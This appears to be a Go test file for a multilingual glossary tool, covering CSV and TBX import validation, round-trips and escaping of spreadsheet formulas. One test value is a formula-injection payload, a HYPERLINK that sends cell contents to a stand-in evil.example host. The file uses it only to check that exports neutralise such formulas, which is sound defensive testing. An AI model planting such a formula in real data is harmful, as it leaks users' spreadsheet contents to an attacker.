package glossary

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tarjuma/tarjuma"
	"github.com/tarjuma/tarjuma/glossary/inflect"
)

// TestImportProblems reads every file in testdata/import and compares the problems reported
// with the file's .want: one "LINE FIELD CODE" per line, "-" for no field.
func TestImportProblems(t *testing.T) {
	files, err := filepath.Glob("testdata/import/*")
	if err != nil {
		t.Fatal(err)
	}
	readers := map[string]func(*os.File) ([]Term, error){
		".csv": func(f *os.File) ([]Term, error) { return ReadCSV(f) },
		".tbx": func(f *os.File) ([]Term, error) { return ReadTBX(f) },
	}
	for _, file := range files {
		read, ok := readers[filepath.Ext(file)]
		if !ok {
			continue
		}
		t.Run(filepath.Base(file), func(t *testing.T) {
			f, err := os.Open(file)
			if err != nil {
				t.Fatal(err)
			}
			defer f.Close()
			terms, err := read(f)
			var verr *ValidationError
			if !errors.As(err, &verr) {
				t.Fatalf("got %d terms and error %v, want a *ValidationError", len(terms), err)
			}
			if terms != nil {
				t.Errorf("got %d terms with the error; nothing may be half-imported", len(terms))
			}
			if !errors.Is(err, tarjuma.ErrInvalid) {
				t.Errorf("%v does not wrap tarjuma.ErrInvalid", err)
			}
			var got []string
			for _, p := range verr.Problems {
				field := p.Field
				if field == "" {
					field = "-"
				}
				got = append(got, fmt.Sprintf("%d %s %s", p.Line, field, p.Code))
			}
			want, err := os.ReadFile(strings.TrimSuffix(file, filepath.Ext(file)) + ".want")
			if err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(strings.Fields(string(want)), strings.Fields(strings.Join(got, "\n"))); diff != "" {
				t.Errorf("problems (-want +got):\n%s", diff)
			}
		})
	}
}

// TestCSVRoundTrip reads a file that uses every column and writes it back byte for byte.
func TestCSVRoundTrip(t *testing.T) {
	terms := roundTripCSV(t, "testdata/roundtrip.csv")
	samsung := terms[2]
	if !samsung.DoNotTranslate || samsung.Targets != nil || len(samsung.Arabic) != 2 {
		t.Errorf("do-not-translate term read as %+v", samsung)
	}
	// The abbreviated compound is indeclinable, which the generator cannot know: the file's forms
	// are overrides, and only those that differ from the generated ones.
	o := terms[1].Targets[tarjuma.Russian].Overrides
	want := map[string]map[inflect.Form]string{"Минздравсоцзащиты": {inflect.Gen: "Минздравсоцзащиты", inflect.Dat: "Минздравсоцзащиты",
		inflect.Ins: "Минздравсоцзащиты", inflect.Prep: "Минздравсоцзащиты"}}
	if diff := cmp.Diff(want, o); diff != "" {
		t.Errorf("overrides (-want +got):\n%s", diff)
	}
	if p := terms[1].Paradigm(tarjuma.Russian, "Минздравсоцзащиты"); p.Forms[inflect.Gen] != "Минздравсоцзащиты" {
		t.Errorf("overridden genitive %q", p.Forms[inflect.Gen])
	}
	if terms[0].Targets[tarjuma.Russian].Overrides != nil {
		t.Errorf("generated forms read as overrides: %v", terms[0].Targets[tarjuma.Russian].Overrides)
	}
}

// TestCSVSevenColumns reads the seven columns other tools write, and writes them back with the
// forms columns that carry every Tajik and Russian form.
func TestCSVSevenColumns(t *testing.T) {
	in := "\uFEFFid,kind,ar,tg,ru,en,note\n" +
		"tajikistan,place, طاجيكستان | طاجكستان ,Тоҷикистон,Таджикистан,Tajikistan,\n"
	terms, err := ReadCSV(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	want := []Term{{ID: "tajikistan", Kind: KindPlace, Arabic: []string{"طاجيكستان", "طاجكستان"},
		Targets: map[tarjuma.Lang]Forms{
			tarjuma.Tajik: {Preferred: "Тоҷикистон"}, tarjuma.Russian: {Preferred: "Таджикистан"}, tarjuma.English: {Preferred: "Tajikistan"},
		}}}
	if diff := cmp.Diff(want, terms); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	var out bytes.Buffer
	if err := WriteCSV(&out, terms); err != nil {
		t.Fatal(err)
	}
	if header, _, _ := strings.Cut(out.String(), "\n"); header != "id,kind,ar,tg,ru,en,note,tg_forms,ru_forms" {
		t.Errorf("header %q: terms without validity or dnt keep the seven columns, then the forms", header)
	}
	// English alone has no forms: seven columns.
	out.Reset()
	if err := WriteCSV(&out, []Term{{ID: "x", Kind: KindOther, Arabic: []string{"س"}, Targets: map[tarjuma.Lang]Forms{tarjuma.English: {Preferred: "X"}}}}); err != nil {
		t.Fatal(err)
	}
	if header, _, _ := strings.Cut(out.String(), "\n"); header != "id,kind,ar,tg,ru,en,note" {
		t.Errorf("header %q for an English-only term base", header)
	}
}

func TestReadCSVReaderError(t *testing.T) {
	boom := errors.New("disk on fire")
	_, err := ReadCSV(&failingReader{data: "id,kind,ar,tg,ru,en,note\n", err: boom})
	if !errors.Is(err, boom) {
		t.Errorf("got %v, want the reader's error", err)
	}
	var verr *ValidationError
	if errors.As(err, &verr) {
		t.Errorf("a failing reader is not invalid input: %v", err)
	}
}

// failingReader returns data, then err.
type failingReader struct {
	data string
	err  error
}

func (r *failingReader) Read(p []byte) (int, error) {
	if r.data == "" {
		return 0, r.err
	}
	n := copy(p, r.data)
	r.data = r.data[n:]
	return n, nil
}

// formulaValues begin with every character a spreadsheet reads as the start of a formula, and
// with the quote that escapes them, once and twice.
var formulaValues = []string{
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
	"+992 37 221 00 00",
	"-5 degrees",
	"@SUM(A1:A9)",
	"\t=1+1",
	"\r=1+1",
	"'quoted' in the source",
	"''twice",
	"plain, with = inside",
}

// formulaTerms puts each of formulaValues in a note and, where a spelling may hold it, in an
// English preferred form and a Russian accepted one and an Arabic variant.
func formulaTerms() []Term {
	arabic := []string{"ألف", "باء", "تاء", "ثاء", "جيم", "حاء", "خاء", "دال", "ذال"}
	var terms []Term
	for i, v := range formulaValues {
		t := Term{
			ID: fmt.Sprintf("formula-%d", i+1), Kind: KindOther, Arabic: []string{arabic[i]}, Note: v,
			Targets: map[tarjuma.Lang]Forms{
				tarjuma.Tajik: {Preferred: "Санҷиш"}, tarjuma.Russian: {Preferred: "Проверка"}, tarjuma.English: {Preferred: "Test"},
			},
		}
		if cleanForm(v) {
			t.Arabic = []string{v[:1] + arabic[i], arabic[i]}
			t.Targets[tarjuma.English] = Forms{Preferred: v}
			t.Targets[tarjuma.Russian] = Forms{Preferred: "Проверка", Accepted: []string{v}}
		}
		terms = append(terms, t)
	}
	return terms
}

// TestCSVFormulaEscape writes values that would run as formulas in a spreadsheet: no cell of the
// export starts with = + - @ TAB or CR (each gets a "'" before it, as does a value that already
// starts with "'"), and ReadCSV gives back every value exactly. The export is kept as
// testdata/formula.csv (regenerate with -update), which reads and writes back byte for byte.
func TestCSVFormulaEscape(t *testing.T) {
	terms := formulaTerms()
	if err := ValidateSet(terms); err != nil {
		t.Fatalf("test terms are invalid: %v", err)
	}
	var out bytes.Buffer
	if err := WriteCSV(&out, terms); err != nil {
		t.Fatal(err)
	}
	compareGolden(t, "testdata/formula.csv", out.Bytes())

	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	header := recs[0]
	if want := "id,kind,ar,tg,ru,en,note,tg_forms,ru_forms"; strings.Join(header, ",") != want {
		t.Fatalf("header %q, want %q", strings.Join(header, ","), want)
	}
	for r, rec := range recs[1:] {
		for c, cell := range rec {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("row %d, %s: %q starts a formula", r+1, header[c], cell)
			}
		}
		v := formulaValues[r]
		quoted := v
		if v != "plain, with = inside" {
			quoted = "'" + v
		}
		want := map[string]string{"note": quoted}
		if cleanForm(v) {
			want["ar"] = quoted[:len(quoted)-len(v)] + strings.Join(terms[r].Arabic, "|")
			want["en"] = quoted
			want["ru"] = "Проверка|" + v
		}
		for col, w := range want {
			if got := rec[slices.Index(header, col)]; got != w {
				t.Errorf("row %d %s written %q, want %q", r+1, col, got, w)
			}
		}
	}
	if got := recs[len(recs)-1][slices.Index(header, "note")]; got != "plain, with = inside" {
		t.Errorf("a harmless value was changed: %q", got)
	}

	back, err := ReadCSV(bytes.NewReader(out.Bytes()))
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(terms, back); diff != "" {
		t.Errorf("written and read back (-written +read):\n%s", diff)
	}

	roundTripCSV(t, "testdata/formula.csv")
}

// roundTripCSV reads file, checks that WriteCSV writes it back byte for byte, and returns its
// terms.
func roundTripCSV(t *testing.T, file string) []Term {
	t.Helper()
	in, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	terms, err := ReadCSV(bytes.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	var out bytes.Buffer
	if err := WriteCSV(&out, terms); err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(string(in), out.String()); diff != "" {
		t.Errorf("%s written back (-read +written):\n%s", file, diff)
	}
	return terms
}

// TestCSVEscapeEveryColumn checks that the escape is applied to every cell WriteCSV writes, the
// forms columns and dates included, and undone on every cell ReadCSV reads: a file with every
// cell quoted imports as the same file unquoted.
func TestCSVEscapeEveryColumn(t *testing.T) {
	in, err := os.ReadFile("testdata/roundtrip.csv")
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(in)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	var quoted bytes.Buffer
	w := csv.NewWriter(&quoted)
	w.Write(recs[0])
	for _, rec := range recs[1:] {
		q := make([]string, len(rec))
		for i, c := range rec {
			q[i] = "'" + c
		}
		w.Write(q)
	}
	w.Flush()
	want, err := ReadCSV(bytes.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	got, err := ReadCSV(&quoted)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("every cell quoted (-plain +quoted):\n%s", diff)
	}

	for _, c := range []struct{ in, want string }{
		{"", ""}, {"x", "x"}, {"=", "'="}, {"+", "'+"}, {"-", "'-"}, {"@", "'@"}, {"\t", "'\t"}, {"\r", "'\r"},
		{"'", "''"}, {" =x", " =x"}, {"x=", "x="}, {"٫-", "٫-"},
	} {
		if got := escapeCell(c.in); got != c.want {
			t.Errorf("escapeCell(%q) = %q, want %q", c.in, got, c.want)
		}
		if back := unescapeCell(escapeCell(c.in)); back != c.in {
			t.Errorf("unescapeCell(escapeCell(%q)) = %q", c.in, back)
		}
	}
}

// TestCSVFromOtherTools reads a file another tool wrote, which escapes nothing: values that
// begin with = + - @ import as they are, and only a leading "'" is ever removed.
func TestCSVFromOtherTools(t *testing.T) {
	in := "id,kind,ar,tg,ru,en,note,ru_forms\n" +
		"minus,other,ناقص,Минус,-5 градусов,-5 degrees,-5 degrees at night,\n" +
		"plus,other,زائد,Плюс,Плюс,+992,+992 is the country code,\n" +
		"at,other,عند,Дар,@tarjuma,@tarjuma,@tarjuma on social media,gen=@tarjuma\n" +
		"equals,other,يساوي,Баробар,Равно,=,=SUM(A1) typed by hand,\n" +
		"quote,other,اقتباس,Иқтибос,Цитата,Quote,'one quote is taken for the escape,\n" +
		"quotes,other,اقتباسان,Иқтибосҳо,Цитаты,Quotes,''of two one is left,\n"
	terms, err := ReadCSV(strings.NewReader(in))
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][2]string{}
	for _, term := range terms {
		got[term.ID] = [2]string{term.Targets[tarjuma.English].Preferred, term.Note}
	}
	want := map[string][2]string{
		"minus":  {"-5 degrees", "-5 degrees at night"},
		"plus":   {"+992", "+992 is the country code"},
		"at":     {"@tarjuma", "@tarjuma on social media"},
		"equals": {"=", "=SUM(A1) typed by hand"},
		"quote":  {"Quote", "one quote is taken for the escape"},
		"quotes": {"Quotes", "'of two one is left"},
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
	if ru := terms[0].Targets[tarjuma.Russian].Preferred; ru != "-5 градусов" {
		t.Errorf("Russian %q", ru)
	}
	// Exported again, they are escaped, and read back unchanged.
	var out bytes.Buffer
	if err := WriteCSV(&out, terms); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), ",'-5 degrees,'-5 degrees at night,") {
		t.Errorf("export not escaped:\n%s", out.String())
	}
	back, err := ReadCSV(&out)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(terms, back); diff != "" {
		t.Errorf("exported and read back (-imported +read):\n%s", diff)
	}
}
